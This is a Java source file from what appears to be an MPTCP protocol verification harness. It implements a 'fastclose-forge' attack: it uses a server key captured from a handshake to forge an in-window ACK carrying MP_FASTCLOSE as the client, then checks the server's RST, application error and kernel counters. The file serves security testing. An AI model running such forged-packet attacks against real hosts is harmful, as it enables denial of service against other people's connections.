package org.mptcpverify.kernel;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.util.Map;
import java.util.Optional;
import org.mptcpverify.vocab.AttackId;
import org.mptcpverify.wire.Bytes;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * fastclose-forge: the attacker forges, in the client's name and inside the captured subflow's
 * window, an ACK carrying MP_FASTCLOSE with the receiver's key, i.e. the server key read from
 * the captured handshake. Success: the server kernel counts an MP_FASTCLOSE received and tears
 * the connection down, which the server application sees as a reset.
 */
public final class FastcloseForge implements KernelAttack {
    @Override
    public Profile profile() {
        return Profile.of(AttackId.FASTCLOSE_FORGE, WRONG_KEYS);
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        CapturedConnection c = ctx.fresh();
        Wiretap tap = ctx.tap();
        int appMark = ctx.server().eventCount();
        int mark = tap.size();
        tap.send(Topology.SERVER_MAC, Forge.inWindow(c, true, TcpSegment.ACK,
                new MptcpOption.MpFastClose(0, c.serverKey()), Bytes.empty()));
        ctx.note("attacker: sent ACK + MP_FASTCLOSE as the client, carrying the captured server key");
        Optional<JsonNode> ended = ctx.server().awaitFrom(appMark, e -> {
            String ev = e.path("event").asText();
            return ev.equals("error") || ev.equals("eof");
        }, 3_000);
        ctx.note("server application: " + ended.map(e -> e.path("event").asText()
                + (e.has("name") ? " " + e.path("name").asText() + " (" + e.path("message").asText() + ")" : ""))
                .orElse("no error or EOF within 3 s"));
        Optional<Wiretap.Seen> rst = tap.await(mark, t -> t.src().equals(c.server()) && t.has(TcpSegment.RST), 1_000);
        ctx.note("server kernel: " + rst.map(s -> "sent RST to " + s.segment().dst().getHostAddress() + ":"
                + s.segment().dstPort() + " " + KernelReply.of(s.segment()).options()).orElse("no RST seen within 1 s"));
        Map<String, Long> delta = ctx.serverCounterDelta();
        ctx.note("server MIB counters changed: " + delta);
        boolean reset = ended.isPresent() && "error".equals(ended.get().path("event").asText());
        return delta.getOrDefault("MPTcpExtMPFastcloseRx", 0L) >= 1 && reset;
    }
}
